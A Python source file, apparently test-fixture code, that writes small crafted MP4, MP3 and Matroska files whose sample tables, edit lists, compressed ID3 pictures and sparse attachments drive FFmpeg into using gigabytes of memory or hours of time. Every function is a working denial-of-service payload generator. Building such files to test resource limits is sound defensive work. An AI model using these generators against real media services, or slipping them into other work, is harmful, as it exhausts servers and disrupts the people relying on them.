"""Writes small files whose headers make a naive decoder use gigabytes of memory or hours of time."""

import struct
import zlib
from collections.abc import Sequence
from pathlib import Path

RATE = 44_100
MIB = 1024**2
ULAW = 1024
"""Bytes and samples of a mu-law packet."""
AAC = b"\x12\x10"
"""An AudioSpecificConfig: AAC-LC, 44.1 kHz, stereo."""


def box(name: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I", 8 + len(body)) + name + body


def full(name: bytes, *content: bytes, version: int = 0, flags: int = 0) -> bytes:
    return box(name, struct.pack(">I", version << 24 | flags), *content)


def words(*numbers: int) -> bytes:
    return struct.pack(f">{len(numbers)}I", *numbers)


HERE = full(b"url ", flags=1)
"""The sound is in the same file."""


def _mp4a() -> bytes:
    decoder = b"\x04" + bytes([13 + 2 + len(AAC)]) + b"\x40\x15" + bytes(11) + b"\x05" + bytes([len(AAC)]) + AAC
    esds = full(b"esds", b"\x03" + bytes([3 + len(decoder)]) + bytes(3) + decoder)
    return box(b"mp4a", bytes(6), b"\0\1", bytes(8), struct.pack(">HHIHH", 2, 16, 0, RATE, 0), esds)


def _ulaw() -> bytes:
    return box(b"ulaw", bytes(6), b"\0\1", bytes(8), struct.pack(">HHIHH", 1, 16, 0, RATE, 0))


def movie(
    stbl: Sequence[bytes],
    *,
    description: bytes,
    edits: bytes = b"",
    scale: int = RATE,
    after: bytes = b"",
    where: bytes = HERE,
) -> bytes:
    """A `moov` box with one audio track; `stbl` are its sample tables, `where` says in which file its sound is."""
    table = box(b"stbl", full(b"stsd", words(1), description), *stbl)
    dinf = box(b"dinf", full(b"dref", words(1), where))
    media = box(
        b"mdia",
        full(b"mdhd", words(0, 0, scale, 0), b"\x55\xc4\0\0"),
        full(b"hdlr", words(0), b"soun", bytes(13)),
        box(b"minf", full(b"smhd", bytes(4)), dinf, table),
    )
    head = full(b"tkhd", words(0, 0, 1, 0, 0), bytes(60), flags=7)
    mvhd = full(b"mvhd", words(0, 0, scale, 0), bytes(80))
    return box(b"moov", mvhd, box(b"trak", head, edits, media), after)


def tables(samples: int, size: int, duration: int, offsets: Sequence[int]) -> list[bytes]:
    """Tables of `samples` samples of one size, all in one chunk, or one in each of several."""
    in_chunk = 1 if len(offsets) > 1 else samples
    return [
        full(b"stts", words(1, samples, duration)),
        full(b"stsc", words(1, 1, in_chunk, 1)),
        full(b"stsz", words(size, samples)),
        full(b"stco", words(len(offsets), *offsets)),
    ]


FTYP = box(b"ftyp", b"M4A \0\0\0\0M4A mp42")


def sample_sizes(path: Path, samples: int = 60_000_000) -> Path:
    """An `stsz` box with a count of 60 million samples, for which FFmpeg builds an index."""
    moov = movie(tables(samples, 1, 1024, [32]), description=_mp4a())
    path.write_bytes(FTYP + box(b"mdat", bytes(64)) + moov)
    return path


def fragment(path: Path, samples: int = 40_000_000) -> Path:
    """The same with the `trun` box of a fragment, whose samples all have the defaults of its `trex`.

    FFmpeg 9 requires a byte of file for each sample; for FFmpeg 8 900 bytes in all are enough. The file is sparse.
    """
    empty = [full(b"stts", words(0)), full(b"stsc", words(0)), full(b"stsz", words(0, 0)), full(b"stco", words(0))]
    mvex = box(b"mvex", full(b"trex", words(1, 1, 1024, 1, 0)))
    traf = box(b"traf", full(b"tfhd", words(1), flags=0x020000), full(b"trun", words(samples)))
    moof = box(b"moof", full(b"mfhd", words(1)), traf)
    with path.open("wb") as file:
        file.write(FTYP + movie(empty, description=_mp4a(), after=mvex) + moof + words(8 + samples) + b"mdat")
        file.truncate(file.tell() + samples)
    return path


def pictures(path: Path, count: int = 17, size: int = 64 * MIB) -> Path:
    """An MP3 with pictures that are compressed to a thousandth of their size, and a second of silence."""
    packer = zlib.compressobj(9)
    head = b"\0image/jpeg\0\3\0"
    packed = packer.compress(head)
    for _ in range(size // MIB):
        packed += packer.compress(bytes(MIB))
    packed += packer.flush()
    compressed_with_length = 0x0009
    content = words(len(head) + size // MIB * MIB) + packed
    frame = b"APIC" + syncsafe(len(content)) + struct.pack(">H", compressed_with_length) + content
    silent = b"\xff\xfb\x90\xc4" + bytes(413)  # 128 kbit/s, 44.1 kHz, mono
    path.write_bytes(b"ID3\4\0\0" + syncsafe(count * len(frame)) + count * frame + 40 * silent)
    return path


def syncsafe(number: int) -> bytes:
    return bytes(number >> shift & 0x7F for shift in (21, 14, 7, 0))


def element(name: bytes, content: bytes = b"", size: int | None = None) -> bytes:
    """A Matroska element; `size` is the size in its header, if not the real one."""
    return name + struct.pack(">Q", 1 << 56 | (len(content) if size is None else size)) + content


def attachments(path: Path, count: int = 5, size: int = 110 * MIB) -> Path:
    """A sparse Matroska file with attached files of zeros; FFmpeg copies each twice."""
    ebml = element(b"\x1a\x45\xdf\xa3", element(b"\x42\x82", b"matroska"))
    sound = element(b"\xb5", struct.pack(">d", RATE)) + element(b"\x9f", b"\1") + element(b"\x62\x64", b"\x10")
    entry = [(b"\xd7", b"\1"), (b"\x73\xc5", b"\1"), (b"\x83", b"\2"), (b"\x86", b"A_PCM/INT/LIT")]
    track = element(b"\xae", b"".join(element(*one) for one in entry) + element(b"\xe1", sound))
    head = element(b"\x46\x6e", b"font.ttf") + element(b"\x46\x60", b"application/x-truetype-font")
    head += element(b"\x46\xae", b"\1")
    with path.open("wb") as file:
        file.write(ebml + element(b"\x18\x53\x80\x67", size=(1 << 56) - 1))
        file.write(element(b"\x15\x49\xa9\x66", element(b"\x2a\xd7\xb1", words(1_000_000))))
        file.write(element(b"\x16\x54\xae\x6b", track))
        one = len(element(b"\x61\xa7", head + element(b"\x46\x5c"))) + size
        file.write(element(b"\x19\x41\xa4\x69", size=count * one))
        for _ in range(count):
            inner = head + element(b"\x46\x5c", size=size)
            file.write(element(b"\x61\xa7", inner, size=len(inner) + size))
            file.seek(size, 1)
        cluster = element(b"\xe7", b"\0") + element(b"\xa3", b"\x81\0\0\x80" + bytes(8820))
        file.write(element(b"\x1f\x43\xb6\x75", cluster))
    return path


def elst(edits: Sequence[tuple[int, int]], version: int = 0) -> bytes:
    """An edit list of (length, start) in units of the track; a start of -1 is silence."""
    entry = ">qqI" if version else ">iiI"
    entries = b"".join(struct.pack(entry, length, start, 1 << 16) for length, start in edits)
    return box(b"edts", full(b"elst", words(len(edits)), entries, version=version))


def edited(path: Path, edits: bytes, packets: int = 100, after: bytes = b"") -> Path:
    """A track of `packets` equal packets, each a rising tone of 1024 mu-law samples, with this edit list."""
    table = tables(packets, ULAW, ULAW, [len(FTYP) + 8] * packets)
    mdat = box(b"mdat", bytes(range(256)) * (ULAW // 256))
    path.write_bytes(FTYP + mdat + movie(table, description=_ulaw(), edits=edits, after=after))
    return path


def many_edits(path: Path, count: int = 20_000, packets: int = 2_500) -> Path:
    """Each edit plays all of a valid track again, and FFmpeg builds an index for each."""
    return edited(path, elst([(packets * ULAW, 0)] * count), packets)


def endless_edits(path: Path, count: int = 2_600, samples: int = 12_000) -> Path:
    """Each edit plays 12,000 samples of a nanosecond that decode to nothing, so that the time hardly advances."""
    table = tables(samples, 1, 2, [len(FTYP) + 8])
    edits = elst([(samples * 2, 0)] * count)
    mdat = box(b"mdat", bytes(samples))
    path.write_bytes(FTYP + mdat + movie(table, description=_mp4a(), edits=edits, scale=10**9))
    return path


def undecodable(path: Path, samples: int = 4_000_000) -> Path:
    """A sparse file with millions of samples of one byte that decode to nothing."""
    with path.open("wb") as file:
        file.write(FTYP + words(8 + samples) + b"mdat")
        file.seek(samples, 1)
        file.write(movie(tables(samples, 1, 2, [len(FTYP) + 8]), description=_mp4a(), scale=10**9))
    return path
